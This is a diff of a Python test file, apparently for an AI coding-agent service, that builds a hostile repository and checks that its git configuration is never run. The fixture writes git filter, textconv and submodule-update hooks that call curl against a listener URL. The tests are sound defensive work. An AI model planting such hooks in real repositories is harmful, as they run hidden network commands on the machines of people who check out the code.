@@ -1,5 +1,6 @@
 """A repository that brings its own OpenCode configuration: another provider, a plugin, a small model, an agent, a server."""
 
+import contextlib
 import json
 import os
 import shlex
@@ -125,7 +126,7 @@ def made_later(url: str) -> str:
         f"git config filter.evil.clean 'curl -s {url}/clean'; git config filter.evil.smudge 'curl -s {url}/smudge'",
         "printf '* filter=evil diff=evil' > .gitattributes",
         f"git config diff.evil.textconv 'curl -s {url}/textconv'",
-        f"printf '[submodule \"s\"]\\npath = s\\nurl = {url}/s.git\\nupdate = !curl -s {url}/update\\n' > .gitmodules",
+        f"printf '[submodule \"s\"]\\npath = s\\nurl = {url}/s.git\\n' > .gitmodules",
         "true",
     ]
     return "\n".join(lines) + "\n"
@@ -166,7 +167,7 @@ def test_what_its_agent_makes_later_is_not_read_either(hostile_tree: Tree, liste
     assert done["status"] == "completed", done
     assert done["verification"] == "verified", done
     again = tree.wait(tree.create(prompt="Make yourself at home", base_ref=done["branch"], **wanted)["id"])
-    assert again["status"] == "completed", again
+    assert again["status"] == "completed", again["failure"]
     assert listener.heard == []
     for one in (done, again):
         transcript = tree.request("GET", f"/sessions/{one['id']}/transcript")[1]["items"]
@@ -176,7 +177,8 @@ def test_what_its_agent_makes_later_is_not_read_either(hostile_tree: Tree, liste
 def until(find: Any, seconds: float = 60) -> Any:
     end = time.monotonic() + seconds
     while time.monotonic() < end:
-        if (found := find()) is not None:
-            return found
+        with contextlib.suppress(FileNotFoundError):  # Folders come and go meanwhile.
+            if (found := find()) is not None:
+                return found
         time.sleep(0.05)
     raise AssertionError("it did not come")
